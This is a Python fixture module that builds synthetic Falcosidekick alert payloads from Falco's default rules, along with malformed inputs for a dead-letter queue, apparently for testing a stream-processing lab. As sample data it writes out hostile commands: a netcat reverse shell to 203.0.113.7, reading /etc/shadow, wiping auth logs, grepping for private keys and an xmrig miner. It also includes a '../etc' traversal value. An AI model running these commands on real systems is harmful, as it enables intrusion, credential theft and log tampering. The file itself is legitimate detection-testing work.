"""Realistic Falcosidekick payloads, generated from Falco's default rule set.

Shape: Falcosidekick's ``types.FalcoPayload`` (falcosecurity/falcosidekick ``types/types.go``:
uuid, output, priority, rule, time, output_fields, source, tags, hostname), as its Kafka output
publishes it. Rule names, priorities, tags and output formats are those of falcosecurity/rules
``rules/falco_rules.yaml`` (stable and sandbox rules); ``k8s.ns.name``/``k8s.pod.name`` come from
the container plugin's fields; ``k8smeta.*`` owner fields from the k8smeta plugin where enabled.
"""

from __future__ import annotations

import random
import uuid as uuidlib
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

from streamproc.lab.cluster import SampleWorkload

Json = dict[str, Any]


@dataclass(frozen=True)
class Rule:
    """A Falco rule as it appears in detections."""

    name: str
    priority: str
    tags: tuple[str, ...]
    output: str


RULES = (
    Rule(
        "Read sensitive file untrusted",
        "Warning",
        ("maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"),
        "Sensitive file opened for reading by non-trusted program | file=%fd.name "
        "gparent=%proc.aname[2] evt_type=%evt.type user=%user.name process=%proc.name "
        "proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline",
    ),
    Rule(
        "Drop and execute new binary in container",
        "Critical",
        (
            "maturity_stable",
            "container",
            "process",
            "mitre_persistence",
            "TA0003",
            "PCI_DSS_11.5.1",
        ),
        "Executing binary not part of base image | proc_exe=%proc.exe proc_sname=%proc.sname "
        "gparent=%proc.aname[2] proc_exe_ino_ctime=%proc.exe_ino.ctime user=%user.name "
        "process=%proc.name command=%proc.cmdline",
    ),
    Rule(
        "Clear Log Activities",
        "Warning",
        (
            "maturity_stable",
            "host",
            "container",
            "filesystem",
            "mitre_defense_evasion",
            "T1070",
            "NIST_800-53_AU-10",
        ),
        "Log files were tampered | file=%fd.name evt_type=%evt.type user=%user.name "
        "process=%proc.name command=%proc.cmdline",
    ),
    Rule(
        "Netcat Remote Code Execution in Container",
        "Warning",
        ("maturity_stable", "container", "network", "process", "mitre_execution", "T1059"),
        "Netcat runs inside container that allows remote code execution | evt_type=%evt.type "
        "user=%user.name process=%proc.name command=%proc.cmdline",
    ),
    Rule(
        "Search Private Keys or Passwords",
        "Warning",
        (
            "maturity_stable",
            "host",
            "container",
            "process",
            "filesystem",
            "mitre_credential_access",
            "T1552.001",
        ),
        "Grep private keys or passwords activities found | evt_type=%evt.type user=%user.name "
        "process=%proc.name command=%proc.cmdline",
    ),
    Rule(
        "Terminal shell in container",
        "Notice",
        ("maturity_stable", "container", "shell", "mitre_execution", "T1059"),
        "A shell was spawned in a container with an attached terminal | evt_type=%evt.type "
        "user=%user.name process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname "
        "command=%proc.cmdline terminal=%proc.tty",
    ),
    Rule(
        "Contact K8S API Server From Container",
        "Notice",
        ("maturity_stable", "container", "network", "k8s", "mitre_discovery", "T1565"),
        "Unexpected connection to K8s API Server from container | connection=%fd.name "
        "lport=%fd.lport rport=%fd.rport fd_type=%fd.type user=%user.name process=%proc.name",
    ),
)
_COMMANDS = {
    "Read sensitive file untrusted": ("cat", "cat /etc/shadow", "/etc/shadow"),
    "Drop and execute new binary in container": (
        "xmrig",
        "/tmp/xmrig --donate-level 1",
        "/tmp/xmrig",
    ),
    "Clear Log Activities": ("truncate", "truncate -s0 /var/log/auth.log", "/var/log/auth.log"),
    "Netcat Remote Code Execution in Container": ("nc", "nc -e /bin/sh 203.0.113.7 4444", ""),
    "Search Private Keys or Passwords": ("grep", "grep -r BEGIN RSA PRIVATE /", ""),
    "Terminal shell in container": ("bash", "bash", ""),
    "Contact K8S API Server From Container": (
        "curl",
        "curl https://10.96.0.1:443",
        "10.96.0.1:443",
    ),
}


def rfc3339_nanos(epoch_s: float) -> str:
    """Falco's time format: RFC 3339 with nanoseconds, UTC."""
    dt = datetime.fromtimestamp(epoch_s, tz=UTC)
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{int((epoch_s % 1) * 1e9):09d}Z"


def detection(
    workload: SampleWorkload,
    pod: str,
    rule: Rule,
    at: float,
    rng: random.Random,
    *,
    owner_fields: bool = False,
) -> Json:
    """One Falcosidekick payload for ``rule`` firing in ``pod``."""
    proc, cmdline, target = _COMMANDS[rule.name]
    image = workload.images[0]
    repository, _, tag = image.partition(":")
    fields: Json = {
        "evt.time": int(at * 1e9),
        "evt.type": "openat" if target.startswith("/") else "execve",
        "proc.name": proc,
        "proc.cmdline": cmdline,
        "proc.exepath": f"/usr/bin/{proc}",
        "proc.pname": "sh",
        "user.name": "root",
        "user.uid": 0,
        "container.id": f"{rng.getrandbits(48):012x}",
        "container.name": "main",
        "container.image.repository": repository,
        "container.image.tag": tag or "latest",
        "k8s.ns.name": workload.namespace,
        "k8s.pod.name": pod,
        "fd.name": target or None,
    }
    if owner_fields:
        key = {
            "Deployment": "k8smeta.deployment.name",
            "StatefulSet": "k8smeta.sts.name",
            "DaemonSet": "k8smeta.ds.name",
            "CronJob": "k8smeta.cronjob.name",
            "Job": "k8smeta.job.name",
        }.get(workload.kind)
        if key:
            fields[key] = workload.name
    output = (
        f"{rfc3339_nanos(at)[11:29]}: {rule.priority} {rule.output.split(' | ')[0]} | "
        f"user=root process={proc} command={cmdline} container_id={fields['container.id']} "
        f"container_image={repository} k8s_ns={workload.namespace} k8s_pod={pod}"
    )
    return {
        "uuid": str(uuidlib.UUID(int=rng.getrandbits(128), version=4)),
        "output": output,
        "priority": rule.priority,
        "rule": rule.name,
        "time": rfc3339_nanos(at),
        "output_fields": fields,
        "source": "syscall",
        "tags": list(rule.tags),
        "hostname": "node-a",
    }


def host_event(at: float, rng: random.Random) -> Json:
    """A detection on the host itself: no Kubernetes context (Falco writes <NA> or null)."""
    rule = RULES[0]
    return {
        "uuid": str(uuidlib.UUID(int=rng.getrandbits(128), version=4)),
        "output": f"{rfc3339_nanos(at)[11:29]}: Warning Sensitive file opened for reading by "
        "non-trusted program | file=/etc/shadow user=root process=cat",
        "priority": "Warning",
        "rule": rule.name,
        "time": rfc3339_nanos(at),
        "output_fields": {
            "evt.time": int(at * 1e9),
            "proc.name": "cat",
            "fd.name": "/etc/shadow",
            "user.name": "root",
            "container.id": "host",
            "k8s.ns.name": None,
            "k8s.pod.name": "<NA>",
        },
        "source": "syscall",
        "tags": list(rule.tags),
        "hostname": "node-b",
    }


#: lines a broken or hostile producer might write, each with the reason the DLQ must record.
MALFORMED: tuple[tuple[bytes, str], ...] = (
    (
        b'{"rule": "Read sensitive file untrusted", "priority": "Warning", "output_fie',
        "invalid-json",
    ),
    (b'["not", "an", "object"]', "not-an-object"),
    (b'{"priority": "Warning", "output_fields": {}}', "missing-rule"),
    (b'{"rule": "x", "priority": "Loud", "output_fields": {}}', "invalid-priority"),
    (
        (
            b'{"rule": "x", "priority": "Warning", "output_fields": {"k8s.ns.name": "../etc", '
            b'"k8s.pod.name": "p"}}'
        ),
        "invalid-namespace",
    ),
)
